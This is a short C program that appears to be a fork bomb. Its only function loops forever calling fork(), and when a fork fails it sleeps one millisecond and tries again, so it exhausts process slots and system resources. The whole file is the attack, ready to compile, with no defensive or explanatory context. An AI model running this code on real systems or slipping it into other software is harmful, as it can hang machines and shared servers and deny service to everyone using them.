// Forks without end and never gives up.
#include <unistd.h>

int main(void) {
  for (;;) {
    if (fork() < 0) usleep(1000);
  }
}
